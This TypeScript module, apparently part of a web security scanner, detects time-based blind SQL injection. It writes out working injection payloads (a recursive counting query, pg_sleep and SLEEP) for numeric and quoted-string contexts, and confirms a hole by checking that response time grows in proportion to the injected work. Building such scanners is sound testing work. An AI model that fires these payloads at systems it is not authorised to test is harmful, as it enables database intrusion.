import { baseAt, type InjectionPoint, nameOf, submitAt, textAt } from '../injection-points.ts'
import type { Probing } from '../probing.ts'
import type { Reply } from '../reply.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'

/** A pause that shows beside what a handler needs by itself. */
const SHOWN_MS = 250
/** Where so much work takes no longer than none, the text is not calculated. */
const MOST_WORK = 3_000_000
const FIRST_WORK = 300_000
const GROWTH = 3
const SLEEP_SECONDS = 0.4
/** Twice the work takes about twice as long. */
const DOUBLE = { least: 1.5, most: 2.8 } as const
const MOST_ROUNDS = 6

/** Expressions that take a while, and give a number of 0 or more: an untrue comparison keeps them from choosing any row. */
interface Pause {
  readonly name: string
  readonly expression: (work: number) => string
  readonly first: number
  readonly most: number
}

const PAUSES: readonly Pause[] = [
  {
    name: 'counting',
    expression: (rows) =>
      `(SELECT COUNT(*) FROM (WITH RECURSIVE a(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM a LIMIT ${Math.round(rows)}) SELECT x FROM a))`,
    first: FIRST_WORK,
    most: MOST_WORK,
  },
  { name: 'pg_sleep', expression: (seconds) => `(SELECT COUNT(*) FROM pg_sleep(${seconds}))`, first: SLEEP_SECONDS, most: SLEEP_SECONDS },
  { name: 'SLEEP', expression: (seconds) => `(SELECT SLEEP(${seconds}))`, first: SLEEP_SECONDS, most: SLEEP_SECONDS },
]

/** Texts with the work in them, which match no row and make none that was not to be made. */
const CONTEXTS: readonly { readonly name: string; readonly make: (expression: string, value: string) => string }[] = [
  { name: 'number', make: (expression) => `-99 OR ${expression} < 0` },
  { name: "'…'", make: (expression, value) => `${value}'||${expression}||'` },
]

/**
 * Work that only a database does: the answer takes the longer the more of it is asked for, with texts of one shape. For places that a flow
 * of the source points at and that tell nothing otherwise; where they may disturb.
 */
export async function byTime(probing: Probing, point: InjectionPoint): Promise<boolean> {
  if (!point.hints.has('sql-injection') || !probing.mayDisturb) return false
  const ask = (context: (typeof CONTEXTS)[number], pause: Pause, work: number): Promise<Reply> =>
    submitAt(probing, point, context.make(pause.expression(work), textAt(point)), { timeoutMs: 8000 })
  const bases = [await baseAt(probing, point), await baseAt(probing, point)] as const
  const base = bases[0].durationMs < bases[1].durationMs ? bases[0] : bases[1]
  for (const context of /^\d+$/.test(textAt(point)) ? CONTEXTS : CONTEXTS.toReversed()) {
    for (const pause of PAUSES) {
      const work = await shownAt(async (amount) => (await ask(context, pause, amount)).durationMs - base.durationMs, pause)
      if (work === null) continue
      const rounds: Round[] = []
      while (rounds.length < MOST_ROUNDS && !isProportional(rounds))
        rounds.push({
          none: await ask(context, pause, 0),
          once: await ask(context, pause, work),
          twice: await ask(context, pause, 2 * work),
        })
      const last = rounds.at(-1)
      if (!isProportional(rounds) || last === undefined) continue
      const { none, once, twice } = quickest(rounds)
      probing.trial(
        'sqlInjection',
        trialOn(point.accepted.operation, {
          name: 'time',
          parameter: nameOf(point),
          saw: 'effect',
          effect: `work for the database inside the value (${pause.name}, ${context.name}) decides how long the answer takes: none ${none} ms, some ${once} ms, twice as much ${twice} ms, the quickest of ${rounds.length} each`,
          identity: point.accepted.session?.name ?? 'anonymous',
          baseline: base.exchange,
          control: last.none.exchange,
          attempts: exchangesOf(last.once, last.twice),
          reproduced: { count: rounds.length, of: rounds.length },
          details: { context: context.name, isHinted: true },
        }),
      )
      return true
    }
  }
  return false
}

interface Round {
  readonly none: Reply
  readonly once: Reply
  readonly twice: Reply
}

/** The quickest answer to each: what held others up was something else. */
function quickest(rounds: readonly Round[]): { readonly none: number; readonly once: number; readonly twice: number } {
  const least = (pick: (round: Round) => Reply): number => Math.round(Math.min(...rounds.map((round) => pick(round).durationMs)))
  return { none: least(({ none }) => none), once: least(({ once }) => once), twice: least(({ twice }) => twice) }
}

function isProportional(rounds: readonly Round[]): boolean {
  if (rounds.length < 2) return false
  const { none, once, twice } = quickest(rounds)
  const grown = (twice - none) / Math.max(1, once - none)
  return (
    once - none >= SHOWN_MS / 2 &&
    grown >= DOUBLE.least &&
    grown <= DOUBLE.most &&
    rounds.every((round) => round.twice.error === '' && round.twice.durationMs > none + SHOWN_MS)
  )
}

/** The least work that shows; null where even the most does not. */
async function shownAt(extra: (work: number) => Promise<number>, { first, most }: Pause): Promise<number | null> {
  for (let work = first; work <= most; work *= GROWTH) {
    if ((await extra(work)) >= SHOWN_MS) return work
  }
  return null
}
